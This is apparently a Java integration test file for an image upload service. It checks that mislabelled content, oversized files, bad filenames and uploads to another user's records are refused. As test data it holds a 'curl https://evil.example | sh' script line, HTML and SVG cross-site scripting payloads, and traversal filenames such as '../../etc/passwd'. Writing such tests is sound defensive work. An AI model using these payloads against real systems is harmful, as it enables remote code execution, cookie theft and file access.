package dev.lightbox.image;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import dev.lightbox.testsupport.Identities;
import dev.lightbox.testsupport.Identities.TestUser;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;

/**
 * Uploads an attacker would try. After each, the attacker owns no ready image and the bucket holds no object of
 * theirs: nothing they sent got in.
 */
@QuarkusTest
class ImageUploadAttackTest {

    /** %test.lightbox.max-image-bytes in application.properties. */
    private static final int MAX_BYTES = 6 * 1024 * 1024;
    private static final byte[] HTML = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
            .getBytes(StandardCharsets.UTF_8);
    private static final byte[] SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect width=\"9\" height=\"9\"/></svg>"
            .getBytes(StandardCharsets.UTF_8);
    private static final byte[] SCRIPT = "#!/bin/sh\ncurl https://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);

    private TestUser attacker;

    @BeforeEach
    void signIn() {
        attacker = Identities.signedIn("attacker");
    }

    @AfterEach
    void nothingGotIn() {
        List<Object> ready = given().auth().oauth2(attacker.accessToken()).queryParam("owner", attacker.id())
                .when().get("/api/images").then().statusCode(200)
                .extract().jsonPath().getList("items.findAll { it.status == 'ready' }");
        assertEquals(List.of(), ready, "no ready image");
        assertEquals(List.of(), TestImages.objectKeysContaining(attacker.id()), "no object left in the bucket");
    }

    static Stream<Arguments> mislabelledContent() {
        return Stream.of(
                Arguments.of("JPEG bytes declared as PNG", "image/png", TestImages.jpeg(4, 4)),
                Arguments.of("PNG bytes declared as WebP", "image/webp", TestImages.png(4, 4)),
                Arguments.of("HTML declared as PNG", "image/png", HTML),
                Arguments.of("SVG declared as GIF", "image/gif", SVG),
                Arguments.of("shell script declared as JPEG", "image/jpeg", SCRIPT),
                Arguments.of("PNG signature without a header", "image/png", java.util.Arrays.copyOf(TestImages.png(2, 2), 12)));
    }

    @ParameterizedTest(name = "presigned: {0} → 422")
    @MethodSource("mislabelledContent")
    void presignedContentThatIsNotWhatWasDeclaredIsRemoved(String name, String declaredType, byte[] bytes) {
        JsonPath ticket = TestImages.startUpload(attacker, TestImages.uploadBody("x.img", declaredType, bytes.length, "public"))
                .then().statusCode(201).extract().jsonPath();
        String id = ticket.getString("image.id");
        assertEquals(200, TestImages.put(ticket.getString("upload.url"), declaredType, bytes));
        given().auth().oauth2(attacker.accessToken()).when().post("/api/images/" + id + "/complete")
                .then().statusCode(422).contentType("application/problem+json").body("code", equalTo("image.content_mismatch"));
        assertEquals(List.of(), TestImages.objectKeysContaining(id));
        given().when().get("/api/images/" + id).then().statusCode(404);
        removePending(id);
    }

    static Stream<Arguments> notImages() {
        return Stream.of(Arguments.of("HTML", HTML), Arguments.of("SVG", SVG), Arguments.of("script", SCRIPT),
                Arguments.of("three bytes", new byte[] { 'G', 'I', 'F' }));
    }

    @ParameterizedTest(name = "streamed: {0} declared as image/png → 415")
    @MethodSource("notImages")
    void streamedBytesThatAreNotAnImageAreRefused(String name, byte[] bytes) {
        TestImages.stream(attacker, "x.png", bytes, "image/png", "level", "public")
                .then().statusCode(415).contentType("application/problem+json").body("code", equalTo("image.unsupported_type"));
    }

    @Test
    void declaringATypeOutsideTheAllowListIsRefused() {
        TestImages.startUpload(attacker, TestImages.uploadBody("x.svg", "image/svg+xml", 100, null))
                .then().statusCode(415).body("code", equalTo("image.unsupported_type"));
        TestImages.startUpload(attacker, TestImages.uploadBody("x.html", "text/html", 100, null))
                .then().statusCode(415);
    }

    @Test
    void declaringOneByteOverTheLimitIsRefused() {
        TestImages.startUpload(attacker, TestImages.uploadBody("big.png", "image/png", MAX_BYTES + 1L, null))
                .then().statusCode(413).body("code", equalTo("image.too_large"));
        TestImages.startUpload(attacker, TestImages.uploadBody("empty.png", "image/png", 0, null)).then().statusCode(400);
    }

    @Test
    void streamingOneByteOverTheLimitIsRefusedWhileStreaming() {
        TestImages.stream(attacker, "big.png", TestImages.paddedPng(MAX_BYTES + 1), "image/png")
                .then().statusCode(413).contentType("application/problem+json").body("code", equalTo("image.too_large"));
        // Exactly at the limit is fine (and spans two S3 parts); removed again so the after-check holds.
        String id = TestImages.stream(attacker, "max.png", TestImages.paddedPng(MAX_BYTES), "image/png")
                .then().statusCode(201).body("size", equalTo(MAX_BYTES)).extract().path("id");
        given().auth().oauth2(attacker.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
    }

    @Test
    void presignedPutWithAnotherContentTypeOrLengthIsRefusedByStorage() {
        byte[] png = TestImages.png(5, 5);
        JsonPath ticket = TestImages.startUpload(attacker, TestImages.uploadBody("x.png", "image/png", png.length, null))
                .then().statusCode(201).extract().jsonPath();
        String url = ticket.getString("upload.url");
        assertEquals(403, TestImages.put(url, "text/html", png), "another Content-Type");
        byte[] longer = java.util.Arrays.copyOf(png, png.length + 1);
        assertNotEquals(200, TestImages.put(url, "image/png", longer), "another Content-Length");
        byte[] shorter = java.util.Arrays.copyOf(png, png.length - 1);
        assertNotEquals(200, TestImages.put(url, "image/png", shorter), "another Content-Length");
        given().auth().oauth2(attacker.accessToken()).when().post("/api/images/" + ticket.getString("image.id") + "/complete")
                .then().statusCode(409).body("code", equalTo("upload.missing"));
        removePending(ticket.getString("image.id"));
    }

    @Test
    void someoneElsesUploadCannotBeCompleted() {
        TestUser victim = Identities.signedIn("victim");
        byte[] png = TestImages.png(3, 3);
        JsonPath ticket = TestImages.startUpload(victim, TestImages.uploadBody("v.png", "image/png", png.length, "public"))
                .then().statusCode(201).extract().jsonPath();
        String id = ticket.getString("image.id");
        assertEquals(200, TestImages.put(ticket.getString("upload.url"), "image/png", png));
        given().auth().oauth2(attacker.accessToken()).when().post("/api/images/" + id + "/complete")
                .then().statusCode(404);
        given().when().get("/api/images/" + id).then().statusCode(404);
        given().auth().oauth2(victim.accessToken()).when().post("/api/images/" + id + "/complete").then().statusCode(200);
    }

    @Test
    void completingTwiceSaysSo() {
        byte[] png = TestImages.png(3, 3);
        String id = TestImages.presignedUpload(attacker, "image/png", png, null).getString("id");
        given().auth().oauth2(attacker.accessToken()).when().post("/api/images/" + id + "/complete")
                .then().statusCode(409).body("code", equalTo("upload.already_completed"));
        given().auth().oauth2(attacker.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
    }

    static Stream<Arguments> badFilenames() {
        return Stream.of(
                Arguments.of("parent directory", "../../etc/passwd"),
                Arguments.of("path", "photos/cat.png"),
                Arguments.of("windows path", "..\\cat.png"),
                Arguments.of("NUL", "cat\u0000.png"),
                Arguments.of("newline", "cat\n.png"),
                Arguments.of("1 KB of characters", "a".repeat(1024) + ".png"),
                Arguments.of("right-to-left override", "invoice\u202Egnp.exe"),
                Arguments.of("dot dot", ".."),
                Arguments.of("blank", "   "));
    }

    @ParameterizedTest(name = "presigned: filename with {0} → 400")
    @MethodSource("badFilenames")
    void presignedUploadRefusesBadFilenames(String name, String filename) {
        TestImages.startUpload(attacker, TestImages.uploadBody(filename, "image/png", 100, null))
                .then().statusCode(400).contentType("application/problem+json")
                .body("errors[0].field", equalTo("filename"));
    }

    @ParameterizedTest(name = "streamed: filename with {0} → 400")
    @MethodSource("badFilenames")
    void streamedUploadRefusesBadFilenames(String name, String filename) {
        if (filename.contains("\u0000") || filename.contains("\n")) {
            return; // a multipart header cannot carry these; the presigned case covers them
        }
        // Sent by hand: RestAssured would encode the filename as ISO-8859-1 and lose the override character.
        assertEquals(400, TestImages.streamRaw(attacker, filename, TestImages.png(2, 2)));
    }

    @Test
    void unicodeFilenamesThatAreHonestAreKept() {
        String id = TestImages.startUpload(attacker, TestImages.uploadBody("Ferien am Meer 🌊 – 海.png", "image/png", 10, null))
                .then().statusCode(201).body("image.filename", equalTo("Ferien am Meer 🌊 – 海.png")).extract().path("image.id");
        assertTrue(id.length() > 0);
        removePending(id);
    }

    @Test
    void uploadsNeedASignedInUser() {
        given().contentType("application/json").body(TestImages.uploadBody("a.png", "image/png", 10, null))
                .when().post("/api/images/uploads").then().statusCode(401);
        given().multiPart("file", "a.png", TestImages.png(2, 2), "image/png").when().post("/api/images")
                .then().statusCode(401).contentType("application/problem+json");
    }

    @Test
    void streamedUploadMustBeMultipart() {
        given().auth().oauth2(attacker.accessToken()).contentType("image/png").body(TestImages.png(2, 2))
                .when().post("/api/images").then().statusCode(415).contentType("application/problem+json");
        given().auth().oauth2(attacker.accessToken()).multiPart("title", "no file").when().post("/api/images")
                .then().statusCode(400).body("errors[0].field", equalTo("file"));
    }

    /** Pending rows are the attacker's own and harmless; delete them so the after-check sees a clean slate. */
    private void removePending(String id) {
        given().auth().oauth2(attacker.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
    }
}
